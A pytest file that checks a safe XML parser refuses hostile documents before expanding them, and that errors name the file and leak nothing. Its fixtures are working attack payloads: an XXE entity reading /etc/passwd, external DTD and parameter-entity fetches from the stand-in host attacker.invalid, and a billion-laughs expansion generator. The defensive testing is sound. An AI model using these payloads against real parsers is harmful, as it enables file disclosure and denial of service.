"""Hostile XML is refused before anything is read or expanded, with the file named."""

from __future__ import annotations

import os
import threading
from pathlib import Path

import pytest

from repo.metadata.errors import MetadataError
from repo.metadata.safe_xml import parse_xml

XXE_PASSWD = b"""<?xml version="1.0"?>
<!DOCTYPE mods [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<mods xmlns="http://www.loc.gov/mods/v3"><titleInfo><title>&secret;</title></titleInfo></mods>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE mods SYSTEM "http://attacker.invalid/evil.dtd">
<mods xmlns="http://www.loc.gov/mods/v3"/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]><r/>"""


def billion_laughs(levels: int = 10) -> bytes:
    entities = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, levels)]
    return f'<?xml version="1.0"?><!DOCTYPE lolz [{"".join(entities)}]><lolz>&lol{levels - 1};</lolz>'.encode()


def rejected(data: bytes, name: str = "upload.xml", **limits: int) -> MetadataError:
    with pytest.raises(MetadataError) as caught:
        parse_xml(data, name, **limits)
    return caught.value


@pytest.mark.parametrize(
    "document",
    [XXE_PASSWD, EXTERNAL_DTD, PARAMETER_ENTITY, billion_laughs()],
    ids=["external-entity-etc-passwd", "external-dtd", "parameter-entity", "billion-laughs"],
)
def test_doctype_documents_are_rejected_naming_the_file(document: bytes) -> None:
    error = rejected(document, "batch-7/record.xml")
    assert len(error.problems) == 1
    problem = error.problems[0]
    assert problem.file == "batch-7/record.xml"
    assert "DOCTYPE" in problem.reason
    assert str(error).startswith("batch-7/record.xml")
    assert "root:" not in str(error)  # nothing of /etc/passwd leaks into the message


def test_doctype_after_comments_and_processing_instructions_is_rejected() -> None:
    data = b'<?xml version="1.0"?>\n<!-- a -->\n<?pi x?>\n' + XXE_PASSWD.split(b"?>", 1)[1]
    assert "DOCTYPE" in rejected(data).problems[0].reason


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_doctype_is_rejected_in_utf16(encoding: str) -> None:
    text = XXE_PASSWD.decode().replace('version="1.0"', 'version="1.0" encoding="UTF-16"')
    assert "DOCTYPE" in rejected(text.encode(encoding)).problems[0].reason


def test_billion_laughs_in_utf16_is_rejected_quickly() -> None:
    text = billion_laughs().decode().replace('version="1.0"', 'version="1.0" encoding="UTF-16"')
    assert "DOCTYPE" in rejected(text.encode("utf-16")).problems[0].reason


@pytest.mark.parametrize("encoding", ["utf-8", "utf-32-be"])
def test_external_entity_file_is_never_opened(tmp_path: Path, encoding: str) -> None:
    # Opening a FIFO for reading blocks until a writer comes: if the parser tried to read
    # the entity, the parse would hang instead of returning. UTF-32 without a byte order
    # mark gets past the prolog scan, so it exercises the parser's own settings.
    fifo = tmp_path / "secret"
    os.mkfifo(fifo)
    declaration = f'<?xml version="1.0" encoding="{encoding.upper()}"?>'
    document = f'{declaration}<!DOCTYPE r [<!ENTITY x SYSTEM "file://{fifo}">]><r>&x;</r>'
    outcome: list[BaseException] = []

    def parse() -> None:
        try:
            parse_xml(document.encode(encoding), "fifo.xml")
        except BaseException as exc:
            outcome.append(exc)

    worker = threading.Thread(target=parse, daemon=True)
    worker.start()
    worker.join(timeout=5)
    opened = worker.is_alive()
    if opened:  # release the blocked reader so the test run can finish
        os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
        worker.join(timeout=5)
    assert not opened, "the parser opened the external entity's file"
    assert isinstance(outcome[0], MetadataError)
    assert "DOCTYPE" in str(outcome[0])


def test_huge_text_node_is_rejected_with_its_line() -> None:
    data = b"<r>\n<a>" + b"x" * (1024 * 1024 + 1) + b"</a></r>"
    problem = rejected(data, "big.xml").problems[0]
    assert problem.file == "big.xml"
    assert problem.line == 2
    assert "text node" in problem.reason


def test_text_node_limit_is_a_parameter() -> None:
    parse_xml(b"<r>12345</r>", "ok.xml", max_text=5)
    assert "limit of 4" in rejected(b"<r>12345</r>", max_text=4).problems[0].reason
    assert rejected(b'<r a="12345"/>', max_text=4).problems


def test_document_size_limit() -> None:
    error = rejected(b"<r>" + b" " * 100 + b"</r>", "large.xml", max_bytes=50)
    assert "more than the limit of 50" in str(error)


def test_malformed_xml_reports_line() -> None:
    problem = rejected(b"<r>\n<a>\n</r>", "broken.xml").problems[0]
    assert problem.line is not None
    assert "not well-formed" in problem.reason
    assert str(problem).startswith("broken.xml:")


def test_plain_document_parses_with_line_numbers() -> None:
    tree = parse_xml(b"<?xml version='1.0'?>\n<!-- ok -->\n<r>\n<a>text &amp; more</a></r>", "ok.xml")
    a = tree.getroot()[0]
    assert a.text == "text & more"
    assert a.sourceline == 4
